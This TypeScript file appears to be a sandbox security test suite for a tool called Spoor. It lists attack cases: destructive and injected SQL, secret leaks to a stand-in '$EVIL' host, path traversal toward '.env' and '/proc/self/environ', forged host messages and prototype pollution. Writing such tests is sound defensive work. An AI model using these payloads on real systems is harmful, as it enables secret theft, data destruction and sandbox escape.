/**
 * Attacks through Spoor's own API: the database, secrets, files, and the messages behind it all.
 *
 * @module
 */
import type { Attack } from "../attack.ts";

/** A model that runs a statement through `query`, and leaks what it gives. */
function querying(name: string, sql: string, more: Partial<Attack> = {}): Attack {
  const text = JSON.stringify(sql);
  return {
    name,
    header: ["// @depends_on: victim.readable"],
    source: `import { query } from "spoor"; import { leak } from "../_lib/leak.ts";
      const sql: string = [${text}].join("");
      await leak(await query.all(sql));`,
    ...more,
  };
}

export const databaseAttacks: readonly Attack[] = [
  querying("inserts by query", `INSERT INTO "victim.data" VALUES (1, 'PWNED-$ID')`),
  querying(
    "inserts by query and returns",
    `INSERT INTO "victim.data" VALUES (1, 'PWNED-$ID') RETURNING *`,
  ),
  querying(
    "inserts behind a CTE",
    `WITH a AS (SELECT 1) INSERT INTO "victim.data" SELECT 1, 'PWNED-$ID' FROM a`,
  ),
  querying("updates by query", `UPDATE "victim.data" SET text = 'PWNED-$ID'`),
  querying("deletes by query", `DELETE FROM "victim.data"`),
  querying("drops by query", `DROP TABLE "victim.data"`),
  querying("creates a table by query", `CREATE TABLE "pwned_$ID" AS SELECT 1`),
  querying(
    "creates a temporary trigger",
    `CREATE TEMP TRIGGER pwned AFTER INSERT ON "victim.data" BEGIN SELECT 1; END`,
  ),
  querying("puts a second statement behind the first", `SELECT 1 AS a; DROP TABLE "victim.data"`),
  querying("attaches another file", `ATTACH '$VICTIM/$ID' AS other`),
  querying("copies the database out", `VACUUM INTO '$VICTIM/$ID'`),
  querying("makes the schema writable", `PRAGMA writable_schema = 1`),
  querying("changes the journal", `PRAGMA journal_mode = DELETE`),
  querying("reads by a pragma function", `SELECT * FROM pragma_database_list`),
  querying("loads an extension", `SELECT load_extension('$VICTIM/canary.so')`),
  querying("reads a file in SQL", `SELECT readfile('$VICTIM/canary.txt') AS text`),
  querying("ends the transaction", `COMMIT`),
  querying("rolls back", `ROLLBACK`),
  querying("reads a table that it does not declare", `SELECT text AS stolen FROM victim.data`, {
    says: /depends_on/,
  }),
  querying("reads a table by its quoted name", `SELECT text AS stolen FROM "victim.data"`),
  querying(
    "reads a table in a subquery",
    `SELECT (SELECT max(text) FROM "victim.data") AS stolen FROM victim.readable`,
  ),
  querying(
    "reads a table behind a CTE of the same name",
    `WITH "victim.readable" AS (SELECT text FROM "victim.data") SELECT * FROM "victim.readable"`,
  ),
  querying("reads the state's tables", `SELECT * FROM "spoor.runs"`),
  querying("reads the schema", `SELECT sql FROM sqlite_schema`),
  querying("reads the schema by its old name", `SELECT sql FROM main.sqlite_master`),
  {
    name: "saves under names of SQL",
    source: `import { save } from "spoor";
      await save.row({ ['a" TEXT); DROP TABLE "victim.data"; --']: "x", "b'); DELETE FROM x; --": "y" });`,
    ends: "any",
  },
  {
    name: "saves a row with the columns that Spoor keeps",
    header: ["// @kind: tracked", "// @unique_key: id"],
    source: `import { save } from "spoor"; await save.row({ id: 1, _content_hash: "PWNED-$ID" });`,
    ends: "any",
    escape: ({ rows }, id) =>
      JSON.stringify(rows(`attacks.${id}`)).includes("PWNED")
        ? "its own hash was stored"
        : undefined,
  },
  {
    name: "saves a key that was not delivered",
    header: ["// @kind: tracked", "// @unique_key: id"],
    source: `import { query, save } from "spoor";
      for await (const row of query("SELECT id, word FROM victim.readable")) await save.row({ ...row, id: 4711 });`,
    escape: ({ rows }, id) =>
      JSON.stringify(rows(`attacks.${id}`)).includes("4711") ? "the key was stored" : undefined,
  },
  {
    name: "rejects a key that was not delivered",
    header: ["// @kind: tracked", "// @unique_key: id"],
    source: `import { query, reject } from "spoor";
      for await (const row of query("SELECT id, word FROM victim.readable")) await reject({ id: 4711 }, "PWNED-$ID");`,
    says: /Cannot reject id = 4711/,
  },
];

const ALLOWS = "// @allow_net: $ALLOWEDHOST";
const MINE = "// @secrets: MINE_TOKEN";

export const secretAttacks: readonly Attack[] = [
  {
    name: "asks for a secret that it does not list",
    header: [ALLOWS],
    source: `import { http, secret } from "spoor";
      await http.post("$ALLOWED/plain/$ID", { json: { token: secret("OTHER_TOKEN") } });
      throw new Error("nothing came of it");`,
    says: /@secrets/,
  },
  {
    name: "uses the stand-in of another model",
    header: [ALLOWS, MINE],
    source: `import { http, query } from "spoor";
      const [row] = await query("SELECT stand_in FROM owner.of_secret");
      await http.post("$ALLOWED/plain/$ID", { headers: { "X-Token": String(row.stand_in) }, json: row });`,
    ends: "any",
  },
  {
    name: "guesses the stand-in of another secret",
    header: [ALLOWS, MINE],
    source: `import { http, secret } from "spoor";
      const own = String(secret("MINE_TOKEN"));
      for (const guess of [own.replaceAll("MINE_TOKEN", "OTHER_TOKEN"), "OTHER_TOKEN", "\${OTHER_TOKEN}", "{{OTHER_TOKEN}}", "secret:OTHER_TOKEN"]) {
        await http.post("$ALLOWED/plain/$ID", { headers: { "X-Token": guess }, json: { guess } });
      }`,
    ends: "any",
  },
  {
    name: "saves what a secret is",
    header: [ALLOWS, MINE],
    source: `import { secret } from "spoor"; import { leak } from "../_lib/leak.ts";
      await leak(String(secret("MINE_TOKEN")));`,
    ends: "any",
  },
  {
    name: "logs what a secret is",
    header: [ALLOWS, MINE],
    source: `import { log, secret } from "spoor";
      log.info(String(secret("MINE_TOKEN"))); console.log(secret("MINE_TOKEN")); throw new Error(String(secret("MINE_TOKEN")));`,
  },
  {
    name: "saves a secret that the server echoes",
    header: [ALLOWS, MINE],
    source: `import { http, secret } from "spoor"; import { leak } from "../_lib/leak.ts";
      const { text } = await http.get("$ALLOWED/echo", { headers: { Authorization: "Bearer " + secret("MINE_TOKEN") } });
      await leak(text);`,
    ends: "any",
  },
  {
    name: "logs a secret that the server echoes in a header",
    header: [ALLOWS, MINE],
    source: `import { http, log, secret } from "spoor"; import { leak } from "../_lib/leak.ts";
      const { headers } = await http.get("$ALLOWED/echo", { headers: { Authorization: "Bearer " + secret("MINE_TOKEN") } });
      const all = JSON.stringify([...headers]) + JSON.stringify(headers); log.warn(all); await leak(all);`,
    ends: "any",
  },
  {
    name: "fails with a secret that the server echoes",
    header: [ALLOWS, MINE],
    source: `import { http, secret } from "spoor";
      await http.get("$ALLOWED/echo?status=400", { headers: { Authorization: "Bearer " + secret("MINE_TOKEN") }, retries: 0 });`,
  },
  {
    name: "puts a secret into a URL that is recorded",
    header: [ALLOWS, MINE],
    source: `import { http, secret } from "spoor";
      await http.get("$ALLOWED/plain/$ID?token=" + secret("MINE_TOKEN"), { retries: 0 });
      await http.get("$ALLOWED/echo?status=400&token=" + secret("MINE_TOKEN"), { retries: 0 });`,
  },
  {
    name: "sends its secret to a host that is not allowed",
    header: [ALLOWS, MINE],
    source: `import { http, secret } from "spoor";
      await http.post("$EVIL/$ID", { json: { token: secret("MINE_TOKEN") }, retries: 0 });`,
  },
  {
    name: "signs with a secret that it does not list",
    header: [ALLOWS, MINE],
    source: `import { hmac, http, secret } from "spoor";
      const other = String(secret("MINE_TOKEN")).replaceAll("MINE_TOKEN", "OTHER_TOKEN");
      await http.post("$ALLOWED/plain/$ID", { json: { sig: hmac(other, "x") } });`,
    says: /not a secret of this model/,
  },
  {
    name: "makes what hmac gives send the secret instead of a signature",
    header: [ALLOWS, MINE],
    source: `import { hmac, http, secret } from "spoor"; import { leak } from "../_lib/leak.ts";
      const whole = hmac(secret("MINE_TOKEN"), "x");
      for (const sig of [whole.slice(0, -1), whole.replace("sha256", "none"), whole.replace("hex", "raw"), whole.replace(/[.]hex.*/, "")]) {
        try { await leak((await http.post("$ALLOWED/echo", { body: sig })).text); } catch (error) { await leak(String(error)); }
      }
      throw new Error("nothing came of it");`,
  },
  {
    name: "saves a signature that the server echoes",
    header: [ALLOWS, MINE],
    source: `import { hmac, http, secret } from "spoor"; import { leak } from "../_lib/leak.ts";
      const sig = hmac(secret("MINE_TOKEN"), "x") + hmac(secret("MINE_TOKEN"), String(secret("MINE_TOKEN")), { encoding: "base64" });
      await leak((await http.get("$ALLOWED/echo", { headers: { Authorization: "Bearer " + sig } })).text);`,
    ends: "any",
  },
  {
    name: "reads its secret as a variable",
    header: [ALLOWS, MINE],
    source:
      `import { env } from "spoor"; import { leak } from "../_lib/leak.ts"; await leak(env("MINE_TOKEN"));`,
  },
];

/** A model with `@allow_read: inbox` that reads whatever a pattern finds. */
function matching(name: string, pattern: string, more: Partial<Attack> = {}): Attack {
  return {
    name,
    header: ["// @allow_read: inbox"],
    source: `import { files } from "spoor"; import { leak } from "../_lib/leak.ts";
      let text = "";
      for await (const file of files(${
      JSON.stringify(pattern)
    })) if (!file.path.endsWith("harmless.txt")) text += await file.text();
      await leak(text);`,
    ...more,
  };
}

export const fileApiAttacks: readonly Attack[] = [
  matching("finds files by an absolute path", "$VICTIM/*", { says: /allow_read/ }),
  matching("finds files by a path upward", "inbox/../../*/canary.txt"),
  matching("finds files by a path upward from nothing", "../**/canary.txt"),
  matching("finds files by a path upward inside of the pattern", "inbox/*/../../.env"),
  matching("finds the secrets file", ".env", { says: /no model may read/ }),
  matching("finds the state file", ".spoor/*"),
  matching("finds files in a folder whose name begins alike", "inbox-private/*"),
  matching("finds files by braces", "{inbox,inbox-private}/*"),
  matching("finds files by a character class", "inbox[-]private/*"),
  matching("finds files with backslashes", "inbox\\..\\inbox-private\\*"),
  matching("finds files with a zero character", "inbox/harmless.txt\0/../../.env"),
  matching("finds files through a link to a file", "inbox/link.txt"),
  matching("finds files through a link to a folder", "inbox/linked/canary.txt"),
  matching("finds files through links on the way down", "inbox/**/*"),
  matching("finds a device", "/dev/zero"),
  matching("finds the process's environment", "/proc/self/environ"),
  {
    name: "finds files without being allowed any",
    source: `import { files } from "spoor"; import { leak } from "../_lib/leak.ts";
      for await (const file of files("inbox/*")) await leak(await file.text());`,
    says: /allow_read/,
  },
  {
    name: "changes a found file's path before it reads",
    header: ["// @allow_read: inbox"],
    source: `import { files } from "spoor"; import { leak } from "../_lib/leak.ts";
      for await (const file of files("inbox/harmless.txt")) {
        const other = Object.create(file, { path: { value: "$VICTIM/canary.txt" } });
        let text = await other.text().catch(() => "");
        try { (file as { path: string }).path = "$VICTIM/canary.txt"; text += await file.text(); } catch {}
        await leak(text.replaceAll("harmless", ""));
      }`,
    ends: "any",
  },
];

/** Grabs the port to the host, if the guest lets itself be robbed of it. */
const GRAB = `
  let port: MessagePort | undefined;
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (...args) { port = this; return post.apply(this, args); };
  const seen: unknown[] = [];
  for (const name of ["push", "map", "forEach", "splice", "slice", "concat", "filter", Symbol.iterator] as const) {
    const original = Array.prototype[name] as (...args: unknown[]) => unknown;
    Object.defineProperty(Array.prototype, name, { configurable: true, writable: true, value(...args: unknown[]) {
      if (args[0] instanceof MessagePort) port = args[0];
      return original.apply(this, args);
    } });
  }
  for (const type of [Map, WeakMap, Set]) {
    const get = (type.prototype as Map<unknown, unknown>).get ?? type.prototype.has;
    if ("get" in type.prototype) type.prototype.get = function (key: unknown) { if (seen.length < 1000) seen.push(key); return get.call(this, key); };
  }
  const listen = EventTarget.prototype.addEventListener;
  EventTarget.prototype.addEventListener = function (...args) { if (this instanceof MessagePort) port = this; return listen.apply(this, args); };
  log.info("poke"); await new Promise((done) => setTimeout(done, 30));
  function forge(...messages: unknown[]) {
    if (port) post.call(port, messages);
    for (const target of [self, globalThis] as unknown as { postMessage?: (m: unknown) => void }[]) target.postMessage?.(messages);
    self.dispatchEvent?.(new MessageEvent("message", { data: messages }));
  }`;

/** A model that sends the host messages of its own making. */
function forging(name: string, messages: string, more: Partial<Attack> = {}): Attack {
  return {
    name,
    header: [ALLOWS],
    source: `import { log } from "spoor"; import { leak } from "../_lib/leak.ts"; ${GRAB}
      port?.addEventListener("message", (event) => { heard.push(event.data); });
      const heard: unknown[] = [];
      forge(${messages});
      await new Promise((done) => setTimeout(done, 100));
      await leak(JSON.stringify(heard));`,
    ends: "any",
    ...more,
  };
}

export const messageAttacks: readonly Attack[] = [
  forging(
    "forges a request to a host that is not allowed",
    `{ type: "http", id: 9001, request: { method: "GET", url: "$EVIL/$ID", headers: [], body: null, timeoutMs: 1000, retries: 0, groups: [] } }`,
  ),
  forging(
    "forges a read of a file",
    `{ type: "read", id: 9002, path: "$VICTIM/canary.txt", offset: 0, sizeBytes: 1000 }, { type: "files", id: 9003, pattern: "$VICTIM/*" }`,
  ),
  forging(
    "forges a query of a table that it does not declare",
    `{ type: "query", id: 9004, sql: 'SELECT text FROM "victim.data"', params: [], all: true }, { type: "pull", id: 9005, query: 9004, rows: 10 }`,
  ),
  forging(
    "forges a save under another model's name",
    `{ type: "save", id: 9006, model: "victim.data", table: "victim.data", block: { columns: ["text"], values: ["PWNED-$ID"] } }`,
  ),
  forging(
    "forges an acknowledgement",
    `{ type: "acknowledge", id: 9007, groups: [{ group: 0, block: { columns: ["id"], values: ["PWNED-$ID"] } }, { group: -1, block: null }, { group: 1e99, block: {} }] }`,
  ),
  forging(
    "forges an answer of verify",
    `{ type: "verified", change: 1, answer: true }, { type: "verified", change: "x", answer: "PWNED-$ID" }`,
  ),
  forging(
    "forges an end of the engine",
    `{ type: "run_finished", status: "ok" }, { type: "spawn", id: 1, role: "engine" }, { type: "exit", code: 0 }, { type: "end", id: 0 }`,
  ),
  forging(
    "sends messages that are none",
    `null, undefined, 1, "x", [], {}, { type: null }, { type: "constructor" }, { type: "__proto__" }, { type: "toString", id: {} }, { type: "log" }, { type: "log", level: "__proto__", message: {} }, { type: "pull", id: 1, query: "x", rows: -1 }, { type: "pull", id: 2, query: 0, rows: Infinity }, { type: "save", id: 3, block: { columns: "x", values: { length: 1e9 } } }, { type: "failed" }, { type: "failed", error: { message: { a: 1 } } }`,
  ),
  forging(
    "finishes many times over",
    `...Array.from({ length: 1000 }, () => ({ type: "finished" }))`,
  ),
  forging(
    "sends messages with deep and cyclic parts",
    `(() => { const a: Record<string, unknown> = { type: "log", level: "info" }; let b = a; for (let i = 0; i < 2000; i++) b = b.message = {} as typeof a; b.message = a; return a; })()`,
  ),
  {
    name: "answers the host in Spoor's place",
    source: `import { log, save } from "spoor"; ${GRAB}
      self.dispatchEvent?.(new MessageEvent("message", { data: { port: new MessageChannel().port1 } }));
      self.dispatchEvent?.(new MessageEvent("message", { data: [{ type: "start", start: { modules: [] } }] }));
      self.onmessage?.(new MessageEvent("message", { data: [{ type: "stop" }] }));
      await save.row({ id: 1 });`,
    ends: "any",
  },
  {
    name: "pollutes the prototypes that Spoor works with",
    header: [ALLOWS],
    source: `import { http, save } from "spoor";
      const stolen: string[] = [];
      Object.defineProperty(Object.prototype, "url", { configurable: true, get() { return "$EVIL/$ID"; }, set() {} });
      Object.defineProperty(Object.prototype, "practiceOrigin", { configurable: true, value: "$EVIL" });
      Object.defineProperty(Object.prototype, "allowNet", { configurable: true, value: ["$EVILHOST"] });
      const stringify = JSON.stringify;
      JSON.stringify = ((value: unknown) => { stolen.push(String(value)); return stringify(value); }) as typeof JSON.stringify;
      const then = Promise.prototype.then;
      Promise.prototype.then = function (...args) { return then.apply(this, args as never); } as typeof then;
      Array.prototype.toString = () => "$EVIL/$ID"; String.prototype.startsWith = () => true; RegExp.prototype.test = () => true;
      Array.prototype.includes = () => true; Array.prototype.some = () => true; Set.prototype.has = () => true;
      await http.get("$EVIL/$ID", { retries: 0 }); await save.row({ id: 1 });`,
    ends: "any",
  },
  {
    name: "pollutes Object.prototype and saves",
    source: `import { save } from "spoor";
      Object.assign(Object.prototype, { table: "victim.data", model: "victim.data", columns: ["text"], values: ["PWNED-$ID"] });
      await save.row({ id: 1 });`,
    ends: "any",
  },
  {
    name: "replaces the functions of the API",
    header: [ALLOWS],
    source: `import * as spoor from "spoor"; import { leak } from "../_lib/leak.ts";
      const { http, save } = spoor as unknown as Record<string, Record<string, unknown>>;
      try { http.get = save.row; } catch {} try { Object.setPrototypeOf(http, null); } catch {}
      const keys = Reflect.ownKeys(spoor).flatMap((key) => { const value = (spoor as never)[key]; return Reflect.ownKeys(Object(value)).map((k) => [key, k, String(Object(value)[k])].map(String).join(" ")); });
      const port = keys.find((key) => /port|ledger|database/i.test(key) && /native|MessagePort/.test(key) && !/=>|function/.test(key));
      await leak(port);`,
  },
];
